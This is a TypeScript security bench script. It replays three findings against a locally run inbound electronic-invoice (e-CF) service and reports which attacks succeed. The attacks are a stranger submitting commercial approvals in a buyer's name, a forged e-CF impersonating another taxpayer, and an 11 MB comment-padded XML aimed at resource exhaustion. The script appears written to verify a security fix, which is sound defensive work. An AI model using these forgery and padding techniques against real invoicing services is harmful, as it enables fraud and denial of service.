/**
 * Replays the attacks of issue 13 findings 1, 2 and 7 against the inbound services in process (SQLite in
 * memory, official XSDs, self-signed certificates under development trust, as the embedded server runs) and
 * prints what got through. Runs against the code before the fix too (it only uses APIs both have):
 *
 *   ECF_XSD_DIR=/work/shared/dgii-xsd npx tsx bench/inbound-attack.ts
 */
import { buildAcecfXml, buildEcfXmlFromJson } from '../src/ecf/index.js';
import * as inboundModule from '../src/ecf/server/inbound/index.js';
import { createSignerProvider } from '../src/ecf/server/signers.js';
import { createSqliteStorage } from '../src/ecf/server/storage/sqlite.js';
import { createSelfSignedIdentity, signEcf, signXml, type SelfSignedIdentity } from '../src/ecf/sign/index.js';
import { createSchemaValidator } from '../src/ecf/xsd/index.js';
import { baseContext, baseDoc } from '../test/ecf/helpers/docs.js';

const T0 = new Date('2026-04-01T19:30:05Z');
const START = new Date('2026-03-01T00:00:00Z');
const ISSUER = '131880738';
const REMOTE = '101672919';
const STRANGER = '401000003';
const id = (rnc: string): SelfSignedIdentity => createSelfSignedIdentity({ commonName: `TITULAR ${rnc}`, serialNumber: rnc, now: START, days: 3650 });

async function main(): Promise<void> {
  const storage = createSqliteStorage({ file: ':memory:' });
  await storage.migrate();
  const issuer = await storage.createIssuer({
    rnc: ISSUER,
    name: 'Emisor SRL',
    profile: { rnc: ISSUER, razon_social: 'Emisor SRL', direccion: 'Calle 1' },
    signingMode: 'provider',
  });
  const provider = id(ISSUER);
  const signers = createSignerProvider({ key: null, provider: { p12: provider.p12, password: provider.password }, clock: () => T0 });
  // Development trust where it exists (after the fix); ignored before.
  const trust = (inboundModule as Record<string, unknown>).DEVELOPMENT_TRUST;
  const handler = inboundModule.createInboundHandler({
    storage,
    signers,
    schemas: createSchemaValidator(process.env.ECF_XSD_DIR!),
    clock: () => T0,
    ...(trust ? { trust } : {}),
  } as inboundModule.InboundDeps);
  const post = async (path: string, xml: string, token: string) => {
    const form = new FormData();
    form.append('xml', new Blob([xml], { type: 'text/xml' }), 'd.xml');
    const res = (await handler(
      new Request(`http://r.test${path}`, { method: 'POST', body: form, headers: { authorization: `Bearer ${token}`, accept: 'application/json' } }),
    ))!;
    return { status: res.status, text: await res.text() };
  };
  const login = async (who: SelfSignedIdentity) => {
    const seed = await (await handler(new Request('http://r.test/fe/autenticacion/api/semilla')))!.text();
    const r = await post('/fe/autenticacion/api/validacioncertificado', await signXml(seed, who.signer), '');
    return (JSON.parse(r.text) as { token: string }).token;
  };
  const remote = id(REMOTE);
  const stranger = id(STRANGER);
  const remoteToken = await login(remote);
  const strangerToken = await login(stranger);

  // One of our documents, bought by REMOTE, accepted.
  await storage.addSequence(issuer.id, { tipo: '31', from: 1, to: 100, expiresOn: null });
  const doc = baseDoc('31');
  doc.comprador = { ...doc.comprador, rnc: REMOTE };
  const record = (await storage.reserveAndInsert(issuer.id, '31', '2026-04-01', (encf) => {
    const xml = buildEcfXmlFromJson('31', doc, { ...baseContext('31'), emisor: { rnc: ISSUER, razon_social: 'Emisor SRL', direccion: 'Calle 1' }, encf });
    return { source: 'json', unsignedXml: xml, summary: false, issuedAt: '01-04-2026', totalAmount: /<MontoTotal>([^<]+)/.exec(xml)![1]!, totalItbis: '0.00' };
  }))!;
  await storage.updateDocument(record.id, { signedXml: await signEcf(record.unsignedXml, provider.signer, () => T0), status: 'accepted_authority' });
  const acecf = (signer: SelfSignedIdentity, over: { estado?: '1' | '2'; monto?: number; encf?: string } = {}) =>
    signXml(
      buildAcecfXml({
        rnc_emisor: ISSUER,
        encf: over.encf ?? record.encf,
        fecha_emision: record.issuedAt,
        monto_total: over.monto ?? Number(record.totalAmount),
        rnc_comprador: REMOTE,
        estado: over.estado ?? '1',
        ...(over.estado === '2' ? { detalle_motivo_rechazo: 'Falso' } : {}),
        fecha_hora_aprobacion_comercial: '01-04-2026 10:00:00',
      }),
      signer.signer,
    );

  const N = 50;
  let strangerOk = 0;
  for (let k = 0; k < N; k++)
    if ((await post('/fe/aprobacioncomercial/api/ecf', await acecf(stranger, { estado: k % 2 ? '1' : '2' }), strangerToken)).status === 200) strangerOk++;
  const afterStranger = (await storage.getDocumentApprovals(record.id)).length;
  let buyerOk = 0;
  for (let k = 0; k < N; k++) if ((await post('/fe/aprobacioncomercial/api/ecf', await acecf(remote), remoteToken)).status === 200) buyerOk++;
  const afterBuyer = (await storage.getDocumentApprovals(record.id)).length;
  const wrong = await post('/fe/aprobacioncomercial/api/ecf', await acecf(remote, { monto: 1 }), remoteToken);
  const unknown = await post('/fe/aprobacioncomercial/api/ecf', await acecf(remote, { encf: 'E310000000099' }), remoteToken);

  // A forgery of REMOTE's e-CF by the stranger, then the genuine one.
  const ecf = (n: number, signer: SelfSignedIdentity) => {
    const d = baseDoc('31');
    d.comprador = { ...d.comprador, rnc: ISSUER };
    return signEcf(buildEcfXmlFromJson('31', d, { ...baseContext('31'), encf: `E31${String(n).padStart(10, '0')}` }), signer.signer, () => T0);
  };
  const forged = await post('/fe/recepcion/api/ecf', await ecf(7, stranger), strangerToken);
  const genuine = await post('/fe/recepcion/api/ecf', await ecf(7, remote), remoteToken);
  const estado = (t: string) =>
    `Estado ${/<Estado>(\d)/.exec(t)?.[1] ?? '-'}${/<CodigoMotivoNoRecibido>(\d)/.exec(t) ? ` motivo ${/<CodigoMotivoNoRecibido>(\d)/.exec(t)![1]}` : ''}`;

  // 11 MB of comments (11,264 comments of 1 KB; one 11 MB comment overflows xmldom's parser: motivo 1) in a genuine e-CF.
  const padded = (await ecf(8, remote)).replace('<Encabezado>', `${`<!--${'x'.repeat(1017)}-->`.repeat(11 * 1024)}<Encabezado>`);
  const paddedRes = await post('/fe/recepcion/api/ecf', padded, remoteToken);
  const stored = await storage.getReceivedDocument(issuer.id, 'E310000000008', REMOTE);

  console.log(`finding 1: stranger's ACECFs in the buyer's name accepted: ${strangerOk}/${N}, approvals stored: ${afterStranger}`);
  console.log(`finding 1: buyer's identical ACECFs answered 200: ${buyerOk}/${N}, approvals stored afterwards: ${afterBuyer}`);
  console.log(
    `finding 1: wrong total answer echoes the stored total: ${wrong.text.includes(record.totalAmount)}; wrong-total and unknown-e-NCF answers identical: ${wrong.text === unknown.text && wrong.status === unknown.status}`,
  );
  console.log(
    `finding 2: forgery claiming ${REMOTE} by the stranger: HTTP ${forged.status} ${estado(forged.text)}; genuine afterwards: HTTP ${genuine.status} ${estado(genuine.text)}`,
  );
  console.log(
    `finding 7: 11 MB comment-padded e-CF (${padded.length} bytes): HTTP ${paddedRes.status} ${estado(paddedRes.text)}, stored ${stored ? stored.xml.length : 0} bytes`,
  );
  await storage.close();
}

await main();
